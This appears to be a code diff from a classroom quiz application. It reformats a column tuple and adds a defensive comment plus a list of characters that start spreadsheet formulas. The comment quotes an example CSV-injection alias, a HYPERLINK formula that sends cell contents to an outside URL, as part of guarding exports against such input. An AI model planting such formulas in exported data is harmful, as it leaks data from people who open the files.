@@ -17,8 +17,10 @@ from classroom.challenge import Answer, Challenge, fooled, right
 from classroom.records import Drawing, student_numbers
 
 CSV_COLUMNS = ("id", "meant", "answered", "confidence", "time", "alias")
-ANSWER_COLUMNS = ("id", "challenge", "question", "meant", "choice", "answered", "confidence", "right", "fooled")
-ANSWER_COLUMNS += ("time", "alias")
+ANSWER_COLUMNS = (
+    *("id", "challenge", "question", "meant", "choice", "answered", "confidence", "right", "fooled"),
+    *("time", "alias"),
+)
 # A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets: an alias such as
 # =HYPERLINK("http://…?"&A1) would run when the teacher opens the CSV. OWASP's rule: start it with a quote.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
